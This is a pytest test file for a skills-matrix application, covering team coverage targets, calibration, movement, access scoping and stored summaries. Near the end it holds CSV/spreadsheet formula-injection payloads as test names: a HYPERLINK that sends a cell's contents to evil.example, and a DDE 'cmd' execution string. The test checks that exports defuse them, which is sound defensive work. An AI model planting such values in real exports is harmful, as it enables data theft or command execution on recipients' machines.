"""Team and org insight on a small organisation checked by hand, on SQLite and PostgreSQL:
coverage against targets (met, missed, who is closest and what they lack, single points of
failure), distribution, calibration figures and movement; and stored summaries that always
equal a full recomputation.

The ladder (strict policy)::

    level  Ops                      Code
    1      OPS.1.1 OPS.1.2          COD.1.1
    2      OPS.2.1                  COD.2.1 COD.2.2
    3      OPS.3.1                  COD.3.1

Teams: Infra ⊃ Net, and Apps. Boss manages Mia and Max (Infra); Mia manages Nat and Ned
(Net); Ann manages Amy and Al (Apps).
"""

from __future__ import annotations

import pytest

from skillgrid.domain.assessments import OPERATOR, Actor, Entry
from skillgrid.domain.errors import InputError, NotFound
from skillgrid.domain.insight import Spread, Target, TargetError
from skillgrid.domain.leveling import Rating
from skillgrid.domain.people import Role
from skillgrid.domain.policies import parse_policy
from skillgrid.services import (
    assessments,
    cycles,
    frameworks,
    insight,
    people,
    people_import,
    summaries,
    targets,
)

LADDER = (
    b"Level\tOps\tCode\n1\tOn call. Runbooks.\tTests.\n"
    b"2\tPostmortems.\tReviews. Design.\n3\tCapacity.\tArchitecture.\n"
)
PEOPLE = (
    b"name,email,team,manager_email,role\n"
    b"Boss,boss@x.org,Infra,,manager\nMia,mia@x.org,Infra,boss@x.org,manager\n"
    b"Max,max@x.org,Infra,boss@x.org,engineer\nNat,nat@x.org,Net,mia@x.org,engineer\n"
    b"Ned,ned@x.org,Net,mia@x.org,engineer\nAnn,ann@x.org,Apps,,manager\n"
    b"Amy,amy@x.org,Apps,ann@x.org,engineer\nAl,al@x.org,Apps,ann@x.org,engineer\n"
)
OPS = ["OPS.1.1", "OPS.1.2", "OPS.2.1", "OPS.3.1"]
COD = ["COD.1.1", "COD.2.1", "COD.2.2", "COD.3.1"]
M, N = Rating.MEETS, Rating.NOT_YET


def met(*ids: str) -> dict[str, Rating]:
    """Those criteria met, every other not yet."""
    return {cid: (M if cid in ids else N) for cid in OPS + COD}


def finalize(uow_factory, person: str, cycle: str, ratings, self_ratings=None) -> None:  # type: ignore[no-untyped-def]
    if self_ratings is not None:
        assessments.rate(uow_factory(), OPERATOR, person, cycle, "self", _entries(self_ratings))
        assessments.submit(uow_factory(), OPERATOR, person, cycle, "self")
    assessments.rate(uow_factory(), OPERATOR, person, cycle, "manager", _entries(ratings))
    assessments.submit(uow_factory(), OPERATOR, person, cycle, "manager")
    assessments.finalize(uow_factory(), OPERATOR, person, cycle)


def _entries(ratings: dict[str, Rating]) -> dict[str, Entry]:
    return {cid: Entry(r) for cid, r in ratings.items()}


@pytest.fixture
def org(uow_factory):  # type: ignore[no-untyped-def]
    frameworks.import_framework(uow_factory(), LADDER, "tiny.tsv", "tiny", actor=OPERATOR)
    people.add_team(uow_factory(), "Infra", actor=OPERATOR)
    people.add_team(uow_factory(), "Net", "Infra", actor=OPERATOR)
    people.add_team(uow_factory(), "Apps", actor=OPERATOR)
    people_import.import_people(uow_factory(), PEOPLE, "people.csv", actor=OPERATOR)
    cycles.open_cycle(uow_factory(), "C1", "tiny", actor=OPERATOR)
    cycles.open_cycle(uow_factory(), "C2", "tiny", actor=OPERATOR)
    # C1: Nat Ops 1, Code 2 (overall 1); Ned Ops 1, Code 1 (overall 1)
    finalize(uow_factory, "nat@x.org", "C1", met(*OPS[:2], *COD[:3]))
    finalize(uow_factory, "ned@x.org", "C1", met(*OPS[:2], "COD.1.1"))
    # C2: Max Ops 3 Code 1; Mia 3/3; Nat 2/2 (self agrees); Ned Ops 1, Code 0 (self: all met)
    finalize(uow_factory, "max@x.org", "C2", met(*OPS, "COD.1.1"))
    finalize(uow_factory, "mia@x.org", "C2", met(*OPS, *COD))
    nat = met(*OPS[:3], *COD[:3])
    finalize(uow_factory, "nat@x.org", "C2", nat, self_ratings=nat)
    finalize(uow_factory, "ned@x.org", "C2", met(*OPS[:2]), self_ratings=met(*OPS, *COD))
    # Apps: Al Ops 1; Amy nothing
    finalize(uow_factory, "al@x.org", "C2", met(*OPS[:2]))
    finalize(uow_factory, "amy@x.org", "C2", met())
    for target in (
        Target("Infra", "tiny", "OPS", 3, 3),
        Target("Net", "tiny", "Code", 2, 1),  # a track by name
        Target("Apps", "tiny", "ops", 1, 1),
    ):
        targets.set_target(uow_factory(), target, actor=OPERATOR)
    return uow_factory


def test_coverage_names_misses_the_closest_people_and_single_points_of_failure(org) -> None:
    report = insight.team_report(org(), OPERATOR, "Infra")
    assert report.cycle is not None and report.cycle.name == "C2"
    assert report.teams == ("Infra", "Net")
    by_team = {c.target.team: c for c in report.coverage}
    assert set(by_team) == {"Infra", "Net"}  # Apps is not below Infra
    ops = by_team["Infra"]
    assert (ops.holders, ops.met, ops.shortfall) == (2, False, 1)  # Max and Mia
    assert [(c.name, c.level, c.unmet, c.lacking) for c in ops.closest] == [
        ("Nat", 2, 1, ("OPS.3.1",)),
        ("Ned", 1, 2, ("OPS.2.1", "OPS.3.1")),
    ]
    assert report.criteria["OPS.3.1"] == "Capacity."
    code = by_team["Net"]
    assert code.target.track == "COD"
    assert (code.holders, code.met, code.single_point_of_failure) == (1, True, True)
    assert code.holder_names == ("Nat",)


@pytest.mark.parametrize("team", [None, "Infra", "Apps"])
def test_coverage_alone_says_what_the_whole_report_says_of_coverage_and_reviews(
    org, team: str | None
) -> None:
    # coverage alone reads the overall level counts only, not every track's
    whole = insight.team_report(org(), OPERATOR, team, "C2")
    alone = insight.team_report(org(), OPERATOR, team, "C2", sections=frozenset({"coverage"}))
    assert alone.coverage == whole.coverage and alone.coverage
    assert alone.reviewed == whole.reviewed and alone.head_count == whole.head_count
    assert alone.distribution == ()


def test_the_org_report_rolls_every_team_up(org) -> None:
    report = insight.team_report(org(), OPERATOR)
    assert [c.target.team for c in report.coverage] == ["Apps", "Infra", "Net"]
    apps = report.coverage[0]
    assert (apps.holders, apps.single_point_of_failure, apps.holder_names) == (1, True, ("Al",))
    whole = report.distribution[0]
    assert whole.name is None and whole.people == 6
    assert whole.overall == (3, 1, 1, 1)  # Ned, Amy, Al (Code 0) at 0; Max 1; Nat 2; Mia 3


def test_distribution_per_team_and_per_cycle(org) -> None:
    report = insight.team_report(org(), OPERATOR, "Infra")
    infra, net = report.distribution
    assert (infra.name, infra.people, infra.overall) == ("Infra", 4, (1, 1, 1, 1))
    assert infra.tracks["OPS"] == (0, 1, 1, 2)
    assert infra.tracks["COD"] == (1, 1, 1, 1)
    assert (net.name, net.people, net.overall) == ("Net", 2, (1, 0, 1, 0))
    assert [(name, counts.people) for name, counts in report.history] == [("C1", 2), ("C2", 4)]
    assert report.history[0][1].overall == (0, 2, 0, 0)


def test_calibration_compares_manager_and_self_ratings(org) -> None:
    report = insight.team_report(org(), OPERATOR, "Net")
    (mia,) = report.calibration
    figures = mia.ratings
    assert (figures.email, figures.reports, figures.compared) == ("mia@x.org", 2, 16)
    # Nat: manager = self on all 8; Ned: manager − self = 0,0,−2,−2 on Ops, −2 ×4 on Code
    assert figures.delta.total == -12 and figures.delta.mean == pytest.approx(-0.75)
    assert figures.report_means.mean == pytest.approx(-0.75)  # (0 + −1.5) / 2
    assert figures.level.mean == pytest.approx(1.0)  # Nat 2, Ned 0
    assert mia.flags == ()  # two reports are too few to flag
    assert report.org_levels.n == 6


def test_a_team_s_calibration_is_judged_against_the_whole_org(org) -> None:
    """The org's figures are every manager's results added up, whichever team is shown."""
    with org() as uow:
        every_manager = uow.insight.manager_ratings("C2", None)
        pooled = uow.insight.pooled_ratings("C2")
    assert {m.email for m in every_manager} == {"boss@x.org", "mia@x.org", "ann@x.org"}
    deltas, levels = (
        Spread(
            sum(s.n for s in spreads),
            sum(s.total for s in spreads),
            sum(s.squares for s in spreads),
        )
        for spreads in ([m.report_means for m in every_manager], [m.level for m in every_manager])
    )
    assert (pooled.reports, pooled.compared) == (6, 16)
    assert (pooled.report_means.n, pooled.level.n) == (deltas.n, levels.n) == (2, 6)
    assert pooled.report_means.total == pytest.approx(deltas.total) == -1.5
    assert pooled.report_means.squares == pytest.approx(deltas.squares)
    assert (pooled.level.total, pooled.level.squares) == (levels.total, levels.squares)
    for team in ("Net", "Apps", None):
        report = insight.team_report(org(), OPERATOR, team)
        assert (report.org_deltas, report.org_levels) == (pooled.report_means, pooled.level)


def test_a_team_s_report_reads_the_targets_of_its_teams_only(org) -> None:
    with org() as uow:
        assert {t.team for t in uow.insight.targets("tiny", ["Net", "Apps"])} == {"Net", "Apps"}
        assert uow.insight.targets("tiny", []) == []
    assert [c.target.team for c in insight.team_report(org(), OPERATOR, "Net").coverage] == ["Net"]


def test_movement_between_cycles(org) -> None:
    report = insight.team_report(org(), OPERATOR, "Net")
    assert report.previous is not None and report.previous.name == "C1"
    moves = {(m.name, m.track): (m.before, m.after) for m in report.movement}
    assert moves == {
        ("Nat", None): (1, 2),
        ("Nat", "OPS"): (1, 2),
        ("Ned", None): (1, 0),
        ("Ned", "COD"): (1, 0),
    }


def test_a_manager_sees_teams_of_their_reports_only(org) -> None:
    mia = Actor("mia@x.org", Role.MANAGER)
    assert [t.name for t in insight.list_teams(org(), mia)] == ["Net"]
    assert insight.team_report(org(), mia, "Net").teams == ("Net",)
    for hidden in ("Infra", "Apps", None):
        with pytest.raises(NotFound):
            insight.team_report(org(), mia, hidden)
    nat = Actor("nat@x.org", Role.ENGINEER)
    assert insight.list_teams(org(), nat) == []
    boss = Actor("boss@x.org", Role.MANAGER)
    assert {t.name for t in insight.list_teams(org(), boss)} == {"Infra", "Net"}


def test_summaries_equal_a_full_recomputation_through_every_change(org) -> None:
    assert summaries.check_summaries(org()) == []
    # reopen (withdraws the official result), change, finalize again
    assessments.reopen(org(), OPERATOR, "max@x.org", "C2")
    assert ("max@x.org", "C2") not in _stored(org)
    assert summaries.check_summaries(org()) == []
    assessments.rate(org(), OPERATOR, "max@x.org", "C2", "manager", _entries(met()))
    assessments.finalize(org(), OPERATOR, "max@x.org", "C2")
    assert _stored(org)[("max@x.org", "C2")].overall == 0
    # a self-assessment handed over after the official result changes the comparison
    finalize_self(org, "amy@x.org", "C2", met(*OPS))
    assert _stored(org)[("amy@x.org", "C2")].delta_n == 8
    # a new rule for the ladder re-levels every stored result
    frameworks.set_policy(org(), "tiny", parse_policy("tolerance:1"), actor=OPERATOR)
    assert _stored(org)[("max@x.org", "C2")].policy == "tolerance:1"
    assert summaries.check_summaries(org()) == []
    # a cycle moved to a new version of the ladder, then finalized
    frameworks.import_framework(
        org(), LADDER.replace(b"Capacity.", b"Capacity plans."), "t", "tiny", actor=OPERATOR
    )
    cycles.open_cycle(org(), "C3", "tiny", 1, actor=OPERATOR)
    cycles.move_cycle(org(), "C3", actor=OPERATOR)
    finalize(org, "nat@x.org", "C3", met(*OPS, *COD))
    assert summaries.check_summaries(org()) == []
    # and a rebuild from scratch gives the same summaries, managers kept
    before = org_summaries(org)
    assert summaries.rebuild_summaries(org()) == len(before)
    assert org_summaries(org) == before


def finalize_self(org, person: str, cycle: str, ratings) -> None:  # type: ignore[no-untyped-def]
    assessments.rate(org(), OPERATOR, person, cycle, "self", _entries(ratings))
    assessments.submit(org(), OPERATOR, person, cycle, "self")


def _stored(org):  # type: ignore[no-untyped-def]
    with org() as uow:
        return {key: summary for key, (summary, _) in uow.summaries.summaries().items()}


def org_summaries(org):  # type: ignore[no-untyped-def]
    with org() as uow:
        return uow.summaries.summaries()


def test_targets_from_a_yaml_file_replace_the_ladders_targets(org) -> None:
    text = targets.export_targets(org(), OPERATOR, "tiny")
    assert "team: Infra" in text
    new = b"framework: tiny\ntargets:\n  - {team: Apps, track: Code, level: 2, people: 2}\n"
    targets.import_targets(org(), new, "targets.yaml", actor=OPERATOR)
    assert targets.list_targets(org(), "tiny", actor=OPERATOR) == [
        Target("Apps", "tiny", "COD", 2, 2)
    ]


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (
            b"framework: tiny\ntargets:\n  - {team: Nope, track: OPS, level: 1, people: 1}\n",
            "no team 'Nope'",
        ),
        (
            b"framework: tiny\ntargets:\n  - {team: Apps, track: DNS, level: 1, people: 1}\n",
            "no track 'DNS'",
        ),
        (
            b"framework: tiny\ntargets:\n  - {team: Apps, track: OPS, level: 9, people: 1}\n",
            "level must be 1..3",
        ),
        (
            b"framework: tiny\ntargets:\n  - {team: Apps, track: OPS, level: 1, people: 0}\n",
            "people must be",
        ),
        (b"framework: tiny\ntargets:\n  - {team: Apps, track: OPS}\n", "missing level, people"),
        (b"framework: tiny\ntargets: {}\n", "'targets' must be a list"),
        (b"framework: [\n", "not valid YAML"),
        (b"framework: nope\ntargets: []\n", "nope"),
    ],
)
def test_a_bad_targets_file_is_refused_and_changes_nothing(org, content, says) -> None:
    before = targets.list_targets(org(), actor=OPERATOR)
    with pytest.raises((InputError, TargetError, NotFound)) as error:
        targets.import_targets(org(), content, "targets.yaml", actor=OPERATOR)
    assert says in str(error.value)
    assert targets.list_targets(org(), actor=OPERATOR) == before


def test_the_migration_stores_summaries_of_results_finalized_before_it(org, database_url) -> None:
    from alembic import command
    from sqlalchemy import create_engine

    from skillgrid.db.migrate import _config, upgrade

    engine = create_engine(database_url)
    config = _config()
    with engine.begin() as connection:
        config.attributes["connection"] = connection
        command.downgrade(config, "0007")
    assert upgrade(engine)  # what every command does first
    engine.dispose()
    assert len(_stored(org)) == 8
    assert summaries.check_summaries(org()) == []


def test_a_person_who_changes_team_counts_in_the_new_team(org) -> None:
    before = insight.team_report(org(), OPERATOR, "Apps").distribution[0].people
    people.change_person(org(), "nat@x.org", team="Apps", actor=OPERATOR)
    assert insight.team_report(org(), OPERATOR, "Apps").distribution[0].people == before + 1
    moved = b"name,email,team,manager_email,role\nNed,ned@x.org,Apps,mia@x.org,engineer\n"
    people_import.import_people(org(), moved, "p.csv", actor=OPERATOR)
    apps = insight.team_report(org(), OPERATOR, "Apps")
    assert apps.distribution[0].people == before + 2
    assert insight.team_report(org(), OPERATOR, "Net").distribution[0].people == 0


def test_a_manager_sees_the_calibration_of_their_own_chain_only(org) -> None:
    # Nat moves to Apps under Ann: Nat's C2 result stays stored under Mia, Ann's peer
    people.change_person(org(), "nat@x.org", team="Apps", manager="ann@x.org", actor=OPERATOR)
    ann = Actor("ann@x.org", Role.MANAGER)
    report = insight.team_report(org(), ann, "Apps")
    assert "mia@x.org" not in {c.ratings.email for c in report.calibration}
    assert "mia@x.org" in {
        c.ratings.email for c in insight.team_report(org(), OPERATOR, "Apps").calibration
    }


def test_a_later_self_assessment_keeps_the_manager_the_result_was_stored_under(org) -> None:
    people.change_person(org(), "amy@x.org", manager="mia@x.org", actor=OPERATOR)
    finalize_self(org, "amy@x.org", "C2", met(*OPS))
    with org() as uow:
        assert uow.summaries.summaries()[("amy@x.org", "C2")][1] == "ann@x.org"
    assert summaries.check_summaries(org()) == []


def test_people_who_left_hold_no_target(org) -> None:
    people.change_person(org(), "al@x.org", active=False, actor=OPERATOR)
    apps = insight.team_report(org(), OPERATOR, "Apps")
    assert (apps.coverage[0].holders, apps.coverage[0].met) == (0, False)


def test_a_track_by_key_and_by_name_in_one_targets_file_is_refused(org) -> None:
    before = targets.list_targets(org(), actor=OPERATOR)
    twice = (
        b"framework: tiny\ntargets:\n  - {team: Apps, track: OPS, level: 1, people: 1}\n"
        b"  - {team: Apps, track: Ops, level: 2, people: 3}\n"
    )
    with pytest.raises((InputError, TargetError), match="already set"):
        targets.import_targets(org(), twice, "targets.yaml", actor=OPERATOR)
    assert targets.list_targets(org(), actor=OPERATOR) == before


def test_movement_is_measured_from_an_earlier_cycle(org) -> None:
    with pytest.raises(TargetError, match="not before"):
        insight.team_report(org(), OPERATOR, "Net", "C1", since="C2")


def test_an_engineer_lists_no_targets_and_a_manager_those_of_their_teams(org) -> None:
    assert targets.list_targets(org(), actor=Actor("nat@x.org", Role.ENGINEER)) == []
    mine = targets.list_targets(org(), actor=Actor("mia@x.org", Role.MANAGER))
    assert [t.team for t in mine] == ["Net"]


def test_a_summary_left_on_an_old_team_is_reported(org, database_url) -> None:
    from sqlalchemy import create_engine, text

    engine = create_engine(database_url)
    with engine.begin() as connection:
        connection.execute(text("UPDATE official_results SET team_id = NULL"))
    engine.dispose()
    assert any("on another team" in p for p in summaries.check_summaries(org()))


FORMULA_NAMES = {
    "mia@x.org": '=HYPERLINK("http://evil.example/?d="&B2,"Mia")',
    "nat@x.org": "+cmd|' /C calc'!A0",
    "ned@x.org": "@SUM(1+1)",
}


def test_names_that_look_like_formulas_stay_text_in_csv_and_xlsx_reports(org) -> None:
    import csv
    import io

    from openpyxl import load_workbook

    from skillgrid.formulas import TRIGGERS
    from skillgrid.reports.team_tables import report_csv, report_xlsx

    for email, name in FORMULA_NAMES.items():
        people.change_person(org(), email, name=name, actor=OPERATOR)
    report = insight.team_report(org(), OPERATOR, "Net")
    rows = list(csv.DictReader(io.StringIO(report_csv(report))))
    names = {row["name"] for row in rows if row["name"]}
    assert names == {"'" + name for name in FORMULA_NAMES.values()}
    signed = {cell for row in rows for cell in row.values() if cell.startswith(TRIGGERS)}
    assert signed == {"-0.75", "-1"}  # Mia's calibration, movement: numbers, written as such
    book = load_workbook(io.BytesIO(report_xlsx(report)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    written = {cell.value: cell.data_type for cell in cells if cell.value in FORMULA_NAMES.values()}
    assert written == dict.fromkeys(FORMULA_NAMES.values(), "s")
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_reports_say_what_they_rest_on_and_unreviewed_is_not_a_miss(org) -> None:
    from skillgrid.reports.team import report_data, report_markdown

    early = insight.team_report(org(), OPERATOR, "Infra", "C1")  # Mia and Max not reviewed
    assert early.based_on == (2, 4)
    markdown = report_markdown(early)
    words = "2 of 4 with a manager finalized in C1; 2 not yet reviewed; 1 has no manager"
    assert f"Based on {words}. No manager," in markdown and "Boss (boss@x.org)." in markdown
    assert "not yet reviewed: 3 short so far, and 2 people not finalized yet" in markdown
    data = report_data(early)
    assert data["based_on"] == {
        "finalized": 2,
        "reviewable": 4,
        "unmanaged": [{"email": "boss@x.org", "name": "Boss"}],
        "unmanaged_total": 1,
        "words": words,
    }
    assert {t["team"]: t["unreviewed"] for t in data["coverage"]["targets"]}["Infra"] == 2
    done = report_markdown(insight.team_report(org(), OPERATOR, "Infra", "C2"))
    assert "reviewed and below target: missed by 1" in done
